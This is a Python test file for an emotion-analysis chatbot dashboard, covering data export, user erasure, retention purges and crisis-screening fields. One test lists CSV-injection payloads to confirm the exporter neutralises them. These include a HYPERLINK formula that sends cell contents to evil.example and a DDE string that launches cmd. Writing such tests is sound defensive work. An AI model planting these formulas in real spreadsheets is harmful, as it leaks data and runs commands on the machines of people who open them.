"""Export (Art. 20), erasure (Art. 17), retention purge; on SQLite and, checked with SQL, PostgreSQL."""
from __future__ import annotations

import csv
import io
import json
import threading
import time
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, HTTPServer

import psycopg
import pytest
from sqlalchemy import text
from sqlmodel import Session, select

from connectors.contract import FROM_THE_TEAM
from emotion.dashboard.app import run_retention
from emotion.dashboard.handoffs import deliver_reply
from emotion.dashboard.privacy import erase_user, purge_older_than
from emotion.moodlog.db import make_engine, migrate
from emotion.moodlog.governance import AuditEntry, ConsentRecord, HandoffMessage, SessionNote, open_handoff
from emotion.moodlog.models import ReadingFeedback, PersonBaselineRow
from emotion.moodlog.models import utcnow
from tests.dashboard.seed import HAPPY, SAD, csrf_of, seed_session, sign_in

USER_TABLES = {  # table -> SQL counting user u1's rows
    "sessions": "SELECT count(*) FROM sessions WHERE user_id = 'u1'",
    "turns": "SELECT count(*) FROM turns WHERE speaker_id = 'u1' OR session_id IN ('s-sad', 's-sales')",
    "emotion_records": "SELECT count(*) FROM emotion_records WHERE speaker_id = 'u1'",
    # an erasure leaves one refusal per modality (source "erasure"), nothing of the person's own
    "consent_records": "SELECT count(*) FROM consent_records WHERE user_id = 'u1' AND source <> 'erasure'",
    "handoffs": "SELECT count(*) FROM handoffs WHERE user_id = 'u1'",
    "handoff_messages": "SELECT count(*) FROM handoff_messages",
    "session_notes": "SELECT count(*) FROM session_notes",
    "reading_feedback": "SELECT count(*) FROM reading_feedback",
    "person_baselines": "SELECT count(*) FROM person_baselines WHERE user_id = 'u1'",
}


def _add_consent_and_handoff(db: Session) -> None:
    db.add(ConsentRecord(user_id="u1", modality="face", granted=False, source="web form"))
    db.commit()
    handoff = open_handoff(db, "s-sad", "sad")
    db.add(HandoffMessage(handoff_id=handoff.id, author="sup@example.org", text="hello"))
    db.add(SessionNote(session_id="s-sad", author="sup@example.org", text="called u1 back", tags=["follow-up"]))
    db.add(ReadingFeedback(session_id="s-sad", turn_index=0, read_label="sadness", label="anger"))
    db.add(PersonBaselineRow(user_id="u1", modality="audio", space="whisper-tiny.en:mean+std", count=3,
                             stats={"mean": [0.1], "m2": [0.2]}))
    db.commit()


ERASURE_REFUSALS = ("SELECT modality, granted FROM consent_records WHERE user_id = 'u1' AND source = 'erasure' "
                    "ORDER BY modality")


def _counts(connection) -> dict[str, int]:
    return {table: connection.execute(text(sql)).scalar_one() for table, sql in USER_TABLES.items()}


def test_user_export_json_and_csv(client, db, accounts, conversations):
    _add_consent_and_handoff(db)
    sign_in(client, accounts["admin"])
    response = client.get("/users/u1/export.json")
    assert response.headers["content-disposition"] == 'attachment; filename="user-u1.json"'
    data = response.json()
    assert data["user_id"] == "u1" and data["consent"][0]["modality"] == "face"
    assert data["baselines"] == [{"modality": "audio", "space": "whisper-tiny.en:mean+std", "count": 3,
                                  "updated_at": data["baselines"][0]["updated_at"],
                                  "statistics": {"mean": [0.1], "m2": [0.2]}}]
    sessions = {s["session_id"]: s for s in data["sessions"]}
    assert set(sessions) == {"s-sad", "s-sales"}
    sad = sessions["s-sad"]
    assert len(sad["turns"]) == 6 and sad["turns"][0]["emotion"]["label"] == "sadness"
    assert sad["handoffs"][0]["messages"][0]["text"] == "hello"
    assert sad["notes"][0]["text"] == "called u1 back" and sad["notes"][0]["tags"] == ["follow-up"]
    rows = list(csv.DictReader(io.StringIO(client.get("/users/u1/export.csv").text)))
    assert len(rows) == 6 + 2
    first = next(r for r in rows if r["session_id"] == "s-sad" and r["turn_index"] == "0")
    assert first["text"] == "u1 says message 0" and first["label"] == "sadness" and float(first["p_sadness"]) == 0.85
    session_csv = client.get("/sessions/s-happy/export.csv").text
    assert session_csv.splitlines()[0].startswith("session_id,bot,user_id,turn_index") and "u2 says" in session_csv
    exported = db.exec(select(AuditEntry.target).where(AuditEntry.action == "exported")).all()
    assert set(exported) == {"user:u1 (json)", "user:u1 (csv)", "session:s-happy (csv)"}


def test_erase_removes_the_user_from_every_table(client, app, db, accounts, conversations):
    _add_consent_and_handoff(db)
    with app.state.engine.connect() as conn:
        assert all(_counts(conn).values())
    sign_in(client, accounts["admin"])
    token = csrf_of(client.get("/users/u1").text)
    assert client.post("/users/u1/erase", data={"confirm": "u2", "csrf_token": token}).status_code == 422
    page = client.post("/users/u1/erase", data={"confirm": "u1", "csrf_token": token})
    assert page.status_code == 200 and "has been erased" in page.text
    with app.state.engine.connect() as conn:
        assert _counts(conn) == dict.fromkeys(USER_TABLES, 0)
        assert conn.execute(text(ERASURE_REFUSALS)).all() == [("audio", False), ("face", False), ("text", False)]
        assert conn.execute(text("SELECT count(*) FROM turns WHERE session_id = 's-happy'")).scalar_one() == 4
    assert db.exec(select(AuditEntry).where(AuditEntry.action == "erased")).one().actor == "admin@example.org"


def test_supervisors_cannot_erase(client, accounts, conversations):
    sign_in(client, accounts["supervisor"])
    token = csrf_of(client.get("/users/u1").text)
    assert client.post("/users/u1/erase", data={"confirm": "u1", "csrf_token": token}).status_code == 403


def _age(connection, session_id: str, days: int) -> None:
    connection.execute(text("UPDATE sessions SET updated_at = :t WHERE id = :id"),
                       {"t": utcnow() - timedelta(days=days), "id": session_id})


def test_retention_purges_only_old_conversations(app, db, conversations):
    _add_consent_and_handoff(db)
    with app.state.engine.begin() as conn:
        _age(conn, "s-sad", 200)
    counts = run_retention(app.state.engine, 180)
    assert counts == {"handoff_messages": 1, "handoffs": 1, "session_notes": 1, "reading_feedback": 1,
                      "emotion_records": 3, "turns": 6, "sessions": 1}
    with app.state.engine.connect() as conn:
        left = conn.execute(text("SELECT id FROM sessions ORDER BY id")).scalars().all()
        assert left == ["s-happy", "s-sales"]
        assert conn.execute(text("SELECT count(*) FROM turns WHERE session_id = 's-sad'")).scalar_one() == 0
        assert conn.execute(text("SELECT count(*) FROM consent_records")).scalar_one() == 1  # kept as proof
    assert db.exec(select(AuditEntry).where(AuditEntry.action == "purged")).one().actor == "system"
    assert run_retention(app.state.engine, 180) == dict.fromkeys(counts, 0)


def test_retention_also_empties_the_outbox_of_old_conversations(app, conversations, settings, tmp_path):
    import asyncio
    from datetime import datetime, timezone

    from connectors.outbox import QueuedTurn, SQLiteOutbox

    path = tmp_path / "outbox.sqlite3"

    async def set_aside(session_id: str) -> None:
        box = SQLiteOutbox(path)
        turn = QueuedTurn(turn_id=f"t-{session_id}", session_id=session_id, speaker_id="u1", text="old words",
                          sent_at=datetime.now(timezone.utc))
        await box.append(turn)
        await box.set_aside(turn, "HTTP 500")
        await box.close()

    async def left() -> list[str]:
        box = SQLiteOutbox(path)
        try:
            return sorted(t.session_id for t, _ in await box.dead())
        finally:
            await box.close()

    for session_id in ("s-sad", "s-happy"):
        asyncio.run(set_aside(session_id))
    with app.state.engine.begin() as conn:
        _age(conn, "s-sad", 200)
    run_retention(app.state.engine, 180, settings.model_copy(update={"outboxes": [{"backend": "sqlite",
                                                                                   "path": str(path)}]}))
    assert asyncio.run(left()) == ["s-happy"]


def test_the_app_purges_on_its_schedule(settings):
    from fastapi.testclient import TestClient

    from emotion.dashboard.app import create_dashboard

    engine = make_engine(settings.database_url)
    seed_session(engine, "old", bot="support", user_id="u9", moods=[SAD])
    seed_session(engine, "new", bot="support", user_id="u9", moods=[SAD])
    with engine.begin() as conn:
        _age(conn, "old", 40)
    app = create_dashboard(settings.model_copy(update={"retention_days": 30, "retention_interval_s": 0.2}))
    with TestClient(app):  # the first pass runs at start-up, then every 0.2 s
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            with engine.connect() as conn:
                left = conn.execute(text("SELECT id FROM sessions")).scalars().all()
            if left == ["new"]:
                break
            time.sleep(0.1)
    assert left == ["new"]
    engine.dispose()


def test_deliver_reply_posts_a_bot_event_to_rasa():
    received = []

    class Rasa(BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802
            received.append((self.path, json.loads(self.rfile.read(int(self.headers["Content-Length"])))))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = HTTPServer(("127.0.0.1", 0), Rasa)
    thread = threading.Thread(target=server.handle_request)
    thread.start()
    try:
        assert deliver_reply(f"http://127.0.0.1:{server.server_port}", "conv/1", "hello", token="t")
    finally:
        thread.join(5)
        server.server_close()
    path, body = received[0]
    assert path.startswith("/conversations/conv%2F1/tracker/events?") and "token=t" in path
    assert body["event"] == "bot" and body["text"] == "hello"
    assert body["metadata"] == {FROM_THE_TEAM: True}  # a reloaded page shows it as the team's (thirteenth reading, M12)
    assert deliver_reply(None, "conv", "hello") is False


@pytest.mark.postgres
def test_retention_and_erasure_on_postgresql(postgres_url):
    engine = make_engine(postgres_url)
    try:
        migrate(engine)
        seed_session(engine, "s-sad", bot="support", user_id="u1", moods=[SAD, SAD])
        seed_session(engine, "s-sales", bot="sales", user_id="u1", moods=[HAPPY])
        seed_session(engine, "s-old", bot="support", user_id="u3", moods=[HAPPY])
        seed_session(engine, "s-keep", bot="support", user_id="u4", moods=[HAPPY])
        with Session(engine) as db:
            _add_consent_and_handoff(db)
        with engine.begin() as conn:
            _age(conn, "s-old", 400)
        with Session(engine) as db:
            assert purge_older_than(db, 365)["sessions"] == 1
            assert erase_user(db, "u1")["sessions"] == 2
        raw = postgres_url.replace("postgresql+psycopg://", "postgresql://", 1)
        with psycopg.connect(raw) as conn:
            def count(sql: str) -> int:
                return conn.execute(sql).fetchone()[0]
            assert count("SELECT count(*) FROM sessions WHERE id = 's-old'") == 0
            assert count("SELECT count(*) FROM turns WHERE session_id = 's-old'") == 0
            for sql in USER_TABLES.values():
                assert count(sql) == 0, sql
            assert conn.execute(ERASURE_REFUSALS).fetchall() == [("audio", False), ("face", False), ("text", False)]
            assert count("SELECT count(*) FROM turns WHERE session_id = 's-keep'") == 2
            assert count("SELECT count(*) FROM emotion_records WHERE session_id = 's-keep'") == 1
    finally:
        engine.dispose()


def test_csv_export_cells_are_not_formulas() -> None:
    """A message starting with =, +, -, @ is exported as text, not run by a spreadsheet."""
    from emotion.dashboard.privacy import export_csv

    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx"]
    turns = [{"turn_index": i, "speaker_id": "u", "sent_at": None, "received_at": None, "status": "analysed",
              "error_code": None, "text": t, "bot_replies": [t, "ok"], "emotion": None}
             for i, t in enumerate(attacks + ["a normal message"])]
    rows = list(csv.DictReader(io.StringIO(export_csv(
        {"sessions": [{"session_id": "=s", "bot": "support", "user_id": "u", "turns": turns}]}))))
    assert [r["text"] for r in rows] == ["'" + t for t in attacks] + ["a normal message"]
    assert [r["bot_replies"] for r in rows] == ["'" + t + "\nok" for t in attacks] + ["a normal message\nok"]
    assert {r["session_id"] for r in rows} == {"'=s"}


def test_exports_carry_each_turns_crisis_screening(client, app, accounts):
    from emotion.moodlog.repository import MoodLog, TurnToLog

    MoodLog(app.state.engine).append_turn(TurnToLog(
        session_id="s-risk", speaker_id="u9", bot="support", user_id="u9", text="i have a plan for tonight",
        text_chars=25, status="unanalysed", error_code=None, modalities={},
        crisis={"risk": 0.97, "flag": True, "level": "high", "category": "plan", "cues": ["plan for tonight"]}))
    sign_in(client, accounts["admin"])
    turn = client.get("/sessions/s-risk/export.json").json()["sessions"][0]["turns"][0]
    assert turn["crisis"]["category"] == "plan" and turn["crisis"]["cues"] == ["plan for tonight"]
    row = next(csv.DictReader(io.StringIO(client.get("/sessions/s-risk/export.csv").text)))
    assert (row["crisis_risk"], row["crisis_flag"], row["crisis_level"], row["crisis_category"]) == \
        ("0.97", "True", "high", "plan")
    assert "plan" in client.get("/sessions/s-risk").text  # and the turn table shows it
